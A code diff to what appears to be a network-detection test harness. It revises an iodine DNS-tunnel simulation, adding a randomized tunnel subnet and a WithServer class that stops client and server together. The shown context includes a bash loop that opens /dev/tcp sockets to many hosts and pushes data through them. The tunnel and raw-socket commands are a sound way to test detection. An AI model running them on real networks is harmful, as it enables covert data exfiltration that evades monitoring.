@@ -211,14 +211,26 @@ def mail_by_shell(f):
     return f.login(f"for a in {' '.join(random.sample(FAR, 20))}; do exec 3<>/dev/tcp/$a/{SMTP}; printf %020000d 1 >&3; exec 3>&-; done")
 
 
+class WithServer:
+    """An attack whose far end is made for it, and ends with it."""
+
+    def __init__(self, client, server):
+        self.client, self.server = client, server
+
+    def stop(self, grace):
+        self.client.stop(grace)
+        self.server.stop(grace)
+
+
 def iodine(f):
     """A real tunnel through queries, and pings through that."""
-    server = random.choice(FAR[43:])
+    server, net = random.choice(FAR[43:]), f"10.53.{random.randint(1, 250)}"
     password = f"pw{random.random()}"
-    f.rig.spawn(*f.outside.command("timeout", "60", "iodined", "-f", "-c", "-P", password, "-l", server, "10.53.0.1/24", "t1.example.org"))
-    wait_until("iodined's interface", lambda: "dns" in f.outside.run("ip", "-o", "link").stdout)
-    return f.login(f"mkdir -p /dev/net; [ -e /dev/net/tun ] || mknod /dev/net/tun c 10 200; timeout 40 iodine -f -r -P {password} {server} t1.example.org > /dev/null 2>&1 & "
-                   "for i in $(seq 20); do ping -q -c 20 -i 0.05 -s 800 -W 1 10.53.0.1 > /dev/null 2>&1; sleep 0.5; done; wait")
+    daemon = f.rig.spawn(*f.outside.command("timeout", "60", "iodined", "-f", "-c", "-P", password, "-l", server, f"{net}.1/24", "t1.example.org"))
+    wait_until("iodined's interface", lambda: f"{net}.1" in f.outside.run("ip", "-o", "address").stdout)
+    return WithServer(f.login(
+        f"mkdir -p /dev/net; [ -e /dev/net/tun ] || mknod /dev/net/tun c 10 200; timeout 40 iodine -f -r -P {password} {server} t1.example.org > /dev/null 2>&1 & "
+        f"for i in $(seq 20); do ping -q -c 20 -i 0.05 -s 800 -W 1 {net}.1 > /dev/null 2>&1; sleep 0.5; done; wait"), daemon)
 
 
 def calls_by_curl(f):
